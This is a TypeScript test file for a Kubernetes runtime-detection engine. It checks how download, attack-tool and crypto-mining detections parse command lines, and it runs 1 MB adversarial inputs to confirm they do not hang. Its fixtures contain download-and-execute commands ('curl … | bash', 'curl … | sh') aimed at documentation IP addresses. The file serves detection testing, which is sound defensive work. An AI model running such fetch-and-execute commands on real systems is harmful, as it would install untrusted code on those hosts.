/**
 * The parsing the node-a detections share (lib/tools, lib/download, lib/mining), for what the
 * fixtures cannot show directly, and every one of those detections fed 1 MB adversarial command
 * lines: they must return (a catastrophic regular expression would hang here) and stay silent.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { loadCatalog } from '../../../catalog/catalog.js';
import { Engine } from '../../../engine/engine.js';
import { MemoryState } from '../../../engine/state/store.js';
import type { ProcessExecEvent, ProcessInfo, VigilEvent } from '../../../events/model.js';
import { Indicators } from '../../../indicators/indicators.js';
import { discoverDetections } from '../../registry.js';
import { downloadsOf, downloadsRun, hostInList, isExternalIp, parseUrl } from './download.js';
import { viewOf } from './tools.js';

const MINE = new Set([
  'K8S.NODE_DigitalCurrencyMining', 'K8S.NODE_CryptoCoinMinerArtifacts', 'K8S.NODE_CryptoCoinMinerExecution', 'K8S.NODE_CryptoCoinMinerDownload',
  'K8S.NODE_SuspectDownload', 'K8S.NODE_SuspectDownloadArtifacts', 'K8S.NODE_DownloadAndRunCombo', 'K8S.NODE_LinuxBackdoorArtifact',
  'K8S.NODE_KnownLinuxAttackTool', 'K8S.NODE_KnownLinuxCredentialAccessTool', 'K8S.NODE_KnownLinuxDDoSToolkit', 'K8S.NODE_CommonBot',
  'K8S.NODE_MitreCalderaTools',
]);

function proc(args: string[], executable = args[0]!): ProcessInfo {
  return { pid: 100, executable, args, commandLine: args.join(' '), cwd: '/app' };
}

test('a sh -c script is read into commands: wrappers, pipes, substitutions, variables, cd', () => {
  const p = proc(['/bin/sh', '-c', 's="http://198.51.100.2"; cd /tmp && sudo -u root nohup curl -fsSL $s/a.sh | bash -s x; echo "$(wget -qO- $s/b)"']);
  const names = viewOf(p).commands.map((c) => c.name);
  assert.deepEqual(names, ['sh', 'cd', 'curl', 'bash', 'wget', 'echo']);
  const downloads = downloadsOf(viewOf(p), p);
  assert.deepEqual(downloads.map((d) => d.urls[0]!.text), ['http://198.51.100.2/a.sh', 'http://198.51.100.2/b']);
  assert.deepEqual(downloadsRun(viewOf(p), p).map((r) => r.how), ['pipe']);
});

test('a shell script split imperfectly by the source (quotes kept) is still read', () => {
  const p = proc(['/bin/bash', '-c', '"curl', '-s', 'http://198.51.100.2/x', '|', 'sh"']);
  assert.deepEqual(viewOf(p).commands.map((c) => c.name), ['bash', 'curl', 'sh']);
});

test('output paths: curl -o, -O, redirect; wget -O, -P, default; relative to cwd', () => {
  const out = (args: string[]) => downloadsOf(viewOf(proc(args)), proc(args)).map((d) => d.output);
  assert.deepEqual(out(['curl', '-fsSLo', '/tmp/a', 'http://h.example/x']), ['/tmp/a']);
  assert.deepEqual(out(['curl', '-O', 'http://h.example/dir/tool.tgz']), ['/app/tool.tgz']);
  assert.deepEqual(out(['wget', '-qO-', 'http://h.example/x']), ['-']);
  assert.deepEqual(out(['wget', '-P', '/opt', 'http://h.example/d/y.tgz']), ['/opt/y.tgz']);
  assert.deepEqual(out(['/bin/sh', '-c', 'curl http://h.example/x > /dev/shm/x']).slice(-1), ['/dev/shm/x']);
});

test('hosts: suffix match on label boundaries, IP literals in all their forms', () => {
  const list = new Indicators().list('mining-pools');
  assert.ok(hostInList('pool.supportxmr.com', list));
  assert.ok(!hostInList('notsupportxmr.com', list));
  assert.ok(isExternalIp('3405803821') && isExternalIp('0xcb00712d') && isExternalIp('203.0.113.4'));
  assert.ok(!isExternalIp('10.1.2.3') && !isExternalIp('127.0.0.1') && !isExternalIp('fe80::1') && !isExternalIp('example.com'));
  assert.equal(parseUrl('http://user@[2001:db8::1]:8080/p/x.sh?q=1')?.host, '2001:db8::1');
});

const ADVERSARIAL = [
  'a'.repeat(1 << 20),
  '-o '.repeat(1 << 18),
  'http://'.repeat(1 << 17),
  'stratum'.repeat(1 << 17),
  '$('.repeat(1 << 19),
  '`'.repeat(1 << 20),
  '"'.repeat(1 << 20),
  "'a".repeat(1 << 19),
  '/proc/'.repeat(1 << 17),
  '\\'.repeat(1 << 20),
  'x=$y '.repeat(1 << 17),
  '4'.repeat(1 << 20),
  '/dev/tcp/'.repeat(1 << 16) + ' GET /',
  'file:'.repeat(1 << 18),
  'a.'.repeat(1 << 19),
];

test('1 MB adversarial command lines return and raise nothing, whatever the program', async () => {
  const detections = (await discoverDetections()).map((d) => d.detection).filter((d) => MINE.has(d.type));
  assert.equal(detections.length, MINE.size);
  const engine = new Engine({ detections, catalog: loadCatalog(), state: new MemoryState(), indicators: new Indicators() });
  let n = 0;
  const base = (process: ProcessInfo): ProcessExecEvent => ({
    kind: 'process.exec', id: `adv-${n++}`, time: Date.parse('2026-03-14T09:00:00Z') + n, source: 'vigil', node: 'n1', process, ancestors: [],
    container: { id: 'c1', name: 'app', namespace: 'ns', pod: 'p' },
  });
  for (const text of ADVERSARIAL) {
    const events: VigilEvent[] = [
      base(proc(['/usr/bin/curl', text])),
      base(proc(['/usr/bin/wget', ...text.slice(0, 1 << 16).split(' ')])),
      base(proc(['/bin/sh', '-c', text])),
      base(proc(['/usr/bin/python3', '-c', text])),
      base(proc(['/usr/bin/gdb', '-p', '1', text])),
      base(proc([`/tmp/${text.slice(0, 200)}`, text])),
      { ...base(proc(['/opt/app', text])), kind: 'net.connect', family: 'inet', remoteAddress: '203.0.113.9', remotePort: 3333, success: true },
    ];
    for (const event of events) engine.process(event);
  }
  engine.flush();
  assert.equal(engine.stats.detectionErrors, 0, engine.stats.firstDetectionErrors.join('; '));
  assert.equal(engine.stats.findings, 0);
});
